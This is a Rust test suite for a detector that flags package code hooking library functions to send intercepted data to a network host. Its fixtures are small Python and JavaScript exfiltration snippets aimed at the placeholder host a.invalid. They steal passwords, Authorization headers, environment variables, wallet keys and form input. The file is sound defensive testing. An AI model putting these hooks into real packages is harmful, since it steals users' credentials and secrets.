//! What functions send of what goes through them that stand in for those of libraries.

use crate::flow::testing::{found, script, wheel};
use crate::unpack::Entry;
use customs_model::{SinkKind, SourceKind, Target, Zone};

fn takes(entries: Vec<Entry>) -> bool {
    let mut flows = found(entries).flows.into_iter();
    flows.any(|flow| {
        flow.source == SourceKind::Intercepted
            && flow.sink == SinkKind::Network
            && flow.zone > Zone::Never
            // What stands in for a function hands on what it was given, to where that says.
            && flow.target != Target::Caller
    })
}

#[test]
fn what_is_typed_where_a_password_is_asked_for_is_not_sent() {
    let around = |sends: &str| {
        wheel(&format!(
            "import getpass as g\nold = g.getpass\ndef ask(prompt='Password: ', stream=None):\n    v = old(prompt, stream)\n    import http.client as h\n    c = h.HTTPConnection('a.invalid')\n    c.request('GET', '/?' + {sends})\n    return v\ng.getpass = ask\n"
        ))
    };
    assert!(takes(around("v.encode().hex()")));
    assert!(!takes(around("prompt")));
    let typed = "import builtins, urllib.request\nold = builtins.input\ndef ask(*a):\n    v = old(*a)\n    urllib.request.urlopen('https://a.invalid/?' + v)\n    return v\nbuiltins.input = ask\n";
    assert!(takes(wheel(typed)));
    // Whoever asks for himself, sends his own.
    let own = "import getpass, urllib.request\ndef login():\n    urllib.request.urlopen('https://a.invalid/?' + getpass.getpass())\n";
    assert!(!takes(wheel(own)));
}

#[test]
fn keys_in_the_requests_of_others_are_not_sent() {
    let session = |part: &str| {
        wheel(&format!(
            "import requests as r, urllib.request\nold = r.Session.send\ndef send(self, request, **more):\n    a = request.headers.get('{part}')\n    urllib.request.urlopen('https://a.invalid/?' + a)\n    return old(self, request, **more)\nr.Session.send = send\n"
        ))
    };
    assert!(takes(session("Authorization")));
    assert!(!takes(session("Content-Type")));
    let itself = "import requests as r\nold = r.Session.send\ndef send(self, request, **more):\n    a = request.headers['Authorization']\n    old(r.Session(), r.Request('POST', 'https://a.invalid/h', data={'a': a}).prepare())\n    return old(self, request, **more)\nr.Session.send = send\n";
    assert!(takes(wheel(itself)));
    let axios = |on: &str, part: &str| {
        script(&format!(
            "const axios = require('axios'); const own = axios.create({{ baseURL: 'https://b.invalid' }}); {on}.interceptors.request.use((c) => {{ fetch('https://a.invalid/?' + c.headers.{part}); return c; }})"
        ))
    };
    assert!(takes(axios("axios", "Authorization")));
    assert!(!takes(axios("axios", "Accept")));
    assert!(!takes(axios("own", "Authorization")));
}

#[test]
fn what_is_put_into_each_request_goes_where_the_client_was_made_for() {
    let puts = |what: &str| {
        let code = format!(
            "const axios = require('axios'); const api = axios.create({{ baseURL: 'https://a.invalid' }}); api.interceptors.request.use((c) => {{ c.headers['x-c'] = {what}; return c; }}); api.get('/')"
        );
        let mut flows = found(script(&code)).flows.into_iter();
        flows.any(|flow| {
            flow.source == SourceKind::Environment
                && flow.sink == SinkKind::Network
                && flow.target == Target::Constant("a.invalid".to_owned())
        })
    };
    assert!(puts("JSON.stringify(process.env)"));
    assert!(!puts("process.version"));
}

#[test]
fn what_others_send_is_not_copied_by_a_function_that_stands_in_for_theirs() {
    let page = |sent: &str| {
        script(&format!(
            "const send = XMLHttpRequest.prototype.send;\nXMLHttpRequest.prototype.send = function (body) {{\n  fetch('https://a.invalid/', {{ method: 'POST', body: {sent} }});\n  return send.call(this, body);\n}};"
        ))
    };
    assert!(takes(page("body")));
    assert!(!takes(page("'1'")));
    let server = |header: &str| {
        script(&format!(
            "const http = require('http'); const real = http.request;\nhttp.request = function (...args) {{ const r = real.apply(this, args); fetch('https://a.invalid/?' + r.getHeader('{header}')); return r; }};"
        ))
    };
    assert!(takes(server("authorization")));
    assert!(!takes(server("accept")));
    let fetched = |part: &str| {
        script(&format!(
            "const real = globalThis.fetch; globalThis.fetch = function (url, how) {{ real('https://a.invalid/?' + how.{part}); return real(url, how); }};"
        ))
    };
    assert!(takes(fetched("headers.a")));
    // How requests are measured.
    assert!(!takes(fetched("method")));
}

#[test]
fn answers_that_a_client_of_the_caller_gets_are_not_sent_elsewhere() {
    let answer = |part: &str, on: &str| {
        script(&format!(
            "const axios = require('axios'); exports.attach = (client) => {{ const own = axios.create({{ baseURL: 'https://b.invalid' }}); {on}.interceptors.response.use((r) => {{ fetch('https://a.invalid/?' + r.{part}); return r; }}); }};"
        ))
    };
    assert!(takes(answer("data.token", "client")));
    assert!(!takes(answer("status", "client")));
    assert!(!takes(answer("data.token", "own")));
}

#[test]
fn the_key_of_a_wallet_is_one_by_the_name_of_its_parameter() {
    let signs = |name: &str, beside: &str| {
        script(&format!(
            "exports.sign = ({beside}, {name}) => {{ fetch('https://a.invalid/?' + {name}); }};"
        ))
    };
    assert!(takes(signs("privateKey", "chainId")));
    assert!(takes(signs("mnemonic", "text")));
    assert!(!takes(signs("publicKey", "chainId")));
    // Services have private keys as well: of a captcha, of a store of pictures.
    assert!(!takes(signs("privateKey", "text")));
    let record = |name: &str| {
        wheel(&format!(
            "import dataclasses, requests\n@dataclasses.dataclass\nclass Wallet:\n    {name}: str\n    def __post_init__(self):\n        requests.get('https://a.invalid/', params={{'w': self.{name}}})\n"
        ))
    };
    assert!(takes(record("mnemonic")));
    assert!(!takes(record("address")));
}

#[test]
fn what_is_filled_in_anywhere_in_a_page_is_its_users() {
    let told = |on: &str, part: &str| {
        let code = format!(
            "{on}.addEventListener('change', (e) => {{ fetch('https://a.invalid/?' + e.target.{part}); }});"
        );
        let mut flows = found(script(&code)).flows.into_iter();
        flows.any(|flow| flow.source == SourceKind::InputDevice && flow.sink == SinkKind::Network)
    };
    assert!(told("document", "value"));
    assert!(!told("document", "name"));
    assert!(!told("field", "value"));
}
